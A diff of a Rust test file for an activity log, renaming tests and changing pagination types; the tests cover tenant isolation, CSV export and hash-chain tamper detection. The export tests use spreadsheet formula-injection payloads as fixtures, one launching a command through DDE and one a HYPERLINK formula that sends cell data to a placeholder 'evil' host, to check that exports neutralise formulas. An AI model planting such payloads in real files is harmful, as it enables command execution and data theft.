@@ -3,8 +3,9 @@
 use crate::harness::{PASSWORD, Person, SLUG, TestApp, TestDb, db_test, org};
 use diesel::{RunQueryDsl, sql_query};
 use domain::{
-    activity::{Action, Break, CHAIN_START, Key, PageFrom, Source, chained},
+    activity::{Action, Break, CHAIN_START, Key, Source, chained},
     organization::OrganizationId,
+    paging::PageFrom,
     permission::BuiltInSet,
     time::Timestamp,
 };
@@ -92,7 +93,7 @@ async fn export(person: &Person, ending: &str, fields: &[(&str, &str)]) -> Strin
 }
 
 #[db_test]
-async fn the_log_tells_in_sentences_who_did_what_through_which_token(db: TestDb) {
+async fn the_log_says_in_sentences_who_did_what_through_which_token(db: TestDb) {
     let (app, ann) = TestApp::with_user(db, "Ann").await;
     let key = ann.makes_token("Power <b>BI</b>").await;
     app.me(&key).await;
@@ -117,7 +118,7 @@ async fn the_log_tells_in_sentences_who_did_what_through_which_token(db: TestDb)
 }
 
 #[db_test]
-async fn an_entry_has_a_page_with_everything_that_is_known_of_it(db: TestDb) {
+async fn an_entry_has_a_page_with_all_its_details(db: TestDb) {
     let (app, ann) = TestApp::with_user(db, "Ann").await;
     ann.makes_token("Power BI").await;
     let id = ann.token_id("Power BI").await;
@@ -145,7 +146,7 @@ async fn an_entry_has_a_page_with_everything_that_is_known_of_it(db: TestDb) {
 }
 
 #[db_test]
-async fn a_page_of_the_log_is_light(db: TestDb) {
+async fn a_page_of_the_log_is_small(db: TestDb) {
     let app = TestApp::demonstration(db).await;
     let awa = Person::at(&app.url, "Awa");
     awa.get("/sign-in").await;
@@ -195,7 +196,7 @@ async fn filters_find_a_persons_a_tokens_and_a_days_entries(db: TestDb) {
 }
 
 #[db_test]
-async fn pages_follow_each_other_without_a_gap_or_an_overlap(db: TestDb) {
+async fn pages_of_the_log_neither_skip_nor_repeat_entries(db: TestDb) {
     let (app, ann) = TestApp::with_user(db, "Ann").await;
     let now = app.clock.now();
     // Many in the same second, so that pages end within one.
@@ -206,7 +207,7 @@ async fn pages_follow_each_other_without_a_gap_or_an_overlap(db: TestDb) {
         .db
         .read::<_, StorageError>(|connection| {
             let filter = Filter::default();
-            activity::page(connection, Some(OrganizationId(1)), &filter, PageFrom::Newest, 1000)
+            activity::page(connection, Some(OrganizationId(1)), &filter, PageFrom::Start, 1000)
         })
         .unwrap()
         .iter()
@@ -225,22 +226,22 @@ async fn pages_follow_each_other_without_a_gap_or_an_overlap(db: TestDb) {
             let found = app.db.read::<_, StorageError>(read).unwrap();
             found.iter().map(domain::activity::Logged::key).collect::<Vec<_>>()
         };
-        let (mut down, mut from) = (Vec::<Key>::new(), PageFrom::Newest);
+        let (mut down, mut from) = (Vec::<Key>::new(), PageFrom::Start);
         while let Some(last) = {
             let next = page(from);
             down.extend(&next);
             next.last().copied()
         } {
-            from = PageFrom::Before(last);
+            from = PageFrom::After(last);
         }
         assert_eq!(down.len(), count);
-        let (mut up, mut from) = (Vec::<Key>::new(), PageFrom::After(Key { at: Timestamp::from_seconds(0), id: 0 }));
+        let (mut up, mut from) = (Vec::<Key>::new(), PageFrom::Before(Key { at: Timestamp::from_seconds(0), id: 0 }));
         while let Some(last) = {
             let next = page(from);
             up.extend(&next);
             next.last().copied()
         } {
-            from = PageFrom::After(last);
+            from = PageFrom::Before(last);
         }
         up.reverse();
         assert_eq!(up, down);
@@ -252,7 +253,7 @@ async fn pages_follow_each_other_without_a_gap_or_an_overlap(db: TestDb) {
 }
 
 #[db_test]
-async fn each_organization_sees_its_own_entries_alone(db: TestDb) {
+async fn each_organization_sees_only_its_own_entries(db: TestDb) {
     let (app, ann) = TestApp::with_user(db, "Ann").await;
     let eve = app.add_organization("elsewhere", "Eve").await;
     eve.makes_token("of Eve").await;
@@ -267,7 +268,7 @@ async fn each_organization_sees_its_own_entries_alone(db: TestDb) {
 }
 
 #[db_test]
-async fn the_files_hold_what_the_filter_finds_and_are_noted_in_the_log(db: TestDb) {
+async fn an_export_has_what_the_filter_finds_and_is_logged(db: TestDb) {
     let (app, ann) = TestApp::with_user(db, "Ann").await;
     ann.makes_token("=cmd|' /C calc'!A0,\"x\"").await;
     add(&app, 2500, app.clock.now().plus(-9000), Action::TokenExpired);
@@ -286,7 +287,7 @@ async fn the_files_hold_what_the_filter_finds_and_are_noted_in_the_log(db: TestD
 }
 
 #[db_test]
-async fn no_cell_of_an_export_is_a_formula_whichever_separator_it_is_read_by(db: TestDb) {
+async fn no_cell_of_an_export_is_a_formula_whatever_the_separator(db: TestDb) {
     let (_app, ann) = TestApp::with_user(db, "Ann").await;
     for label in [
         "x;=HYPERLINK(\"http://evil/?\"&A1;\"click\");",
@@ -327,7 +328,7 @@ async fn no_cell_of_an_export_is_a_formula_whichever_separator_it_is_read_by(db:
 }
 
 #[db_test]
-async fn whoever_has_an_export_can_check_the_chain(db: TestDb) {
+async fn an_export_is_enough_to_check_the_chain(db: TestDb) {
     let (app, ann) = TestApp::with_user(db, "Ann").await;
     ann.makes_token("Power BI").await;
     add(&app, 5, app.clock.now().plus(-9000), Action::TokenRevoked);
@@ -360,13 +361,13 @@ async fn whoever_has_an_export_can_check_the_chain(db: TestDb) {
             number => Some(number.to_string()),
         });
         last = chained(&last, &values.each_ref().map(Option::as_deref));
-        assert_eq!(row["hash"], last.iter().map(|byte| format!("{byte:02x}")).collect::<String>());
+        assert_eq!(row["hash"], hex::encode(last));
     }
     assert_eq!(rows.len(), 8);
 }
 
 #[db_test]
-async fn an_export_ends_when_its_session_or_its_permission_does(db: TestDb) {
+async fn an_export_stops_when_the_session_or_the_permission_ends(db: TestDb) {
     let (app, ann) = TestApp::with_user(db, "Ann").await;
     let ben = app.add_user("Ben", BuiltInSet::Administrator).await;
     add(&app, 8000, app.clock.now().plus(-90_000), Action::TokenExpired);
@@ -386,7 +387,7 @@ async fn an_export_ends_when_its_session_or_its_permission_does(db: TestDb) {
 }
 
 #[db_test]
-async fn any_column_that_is_changed_is_found(db: TestDb) {
+async fn a_change_to_any_column_is_detected(db: TestDb) {
     let (app, _ann) = TestApp::with_user(db, "Ann").await;
     add(&app, 9, app.clock.now(), Action::TokenRevoked);
     assert_eq!(breaks(&app, 1, None), []);
@@ -428,7 +429,7 @@ async fn any_column_that_is_changed_is_found(db: TestDb) {
 }
 
 #[db_test]
-async fn missing_moved_and_added_entries_are_found(db: TestDb) {
+async fn missing_moved_and_added_entries_are_detected(db: TestDb) {
     let (app, _ann) = TestApp::with_user(db, "Ann").await;
     add(&app, 9, app.clock.now(), Action::TokenRevoked);
     let noted =
@@ -487,7 +488,7 @@ async fn missing_moved_and_added_entries_are_found(db: TestDb) {
 }
 
 #[db_test]
-async fn a_person_reads_days_in_their_own_time_zone(db: TestDb) {
+async fn days_are_in_the_time_zone_of_the_user(db: TestDb) {
     let (app, ann) = TestApp::with_user(db, "Ann").await;
     let profile = [
         ("name", "Ann"),
